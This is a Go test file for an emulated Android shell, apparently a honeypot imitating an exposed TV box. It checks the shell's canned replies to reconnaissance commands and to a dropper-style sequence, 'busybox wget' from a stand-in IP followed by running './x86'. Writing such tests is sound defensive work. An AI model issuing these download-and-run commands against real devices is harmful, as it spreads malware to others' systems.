package shell

import (
	"strings"
	"testing"
)

func TestRunAndroid(t *testing.T) {
	h := NewHost("localhost", DefaultUnameAndroid, false, "shell")
	h.Android = &Android{Props: map[string]string{"ro.product.model": "X96mini", "ro.product.device": "p281"}}
	s := NewAndroid(h)
	if p := s.AndroidPrompt(); p != "p281:/ $ " {
		t.Errorf("prompt %q", p)
	}
	for _, tc := range []struct{ in, out string }{
		{"getprop ro.product.model", "X96mini\n"},
		{"getprop ro.nothing", "\n"},
		{"getprop ro.nothing dflt", "dflt\n"},
		{"getprop", "[ro.product.device]: [p281]\n[ro.product.model]: [X96mini]\n"},
		{"whoami", "shell\n"},
		{"busybox wget http://203.0.113.5/x", "/system/bin/sh: busybox: inaccessible or not found\n"},
		{"cd /data/local/tmp && pwd", "/data/local/tmp\n"},
		{"cd /nowhere", "/system/bin/sh: cd: /nowhere: No such file or directory\n"},
		{"ls /data", "ls: /data: Permission denied\n"},
		{"./x86", "/system/bin/sh: ./x86: inaccessible or not found\n"},
		{"echo ok", "ok\n"},
		{"uname -m", "aarch64\n"},
		{"pm list packages kodi", "package:org.xbmc.kodi\n"},
		{"which sh", "/system/bin/sh\n"},
		{"am start -n com.x/.Main", "Starting: Intent { -n com.x/.Main }\n"},
	} {
		out, f := s.Run(tc.in)
		if out != tc.out {
			t.Errorf("%q: %q, want %q", tc.in, out, tc.out)
		}
		if len(f) == 0 || f[0].Value != tc.in {
			t.Errorf("%q: fields %v", tc.in, f)
		}
	}
	if out, _ := s.Run("id"); !strings.HasPrefix(out, "uid=2000(shell)") {
		t.Errorf("id %q", out)
	}
	if out, _ := s.Run("cat /proc/cpuinfo"); !strings.Contains(out, "CPU architecture: 8") {
		t.Errorf("cpuinfo %q", out)
	}
}
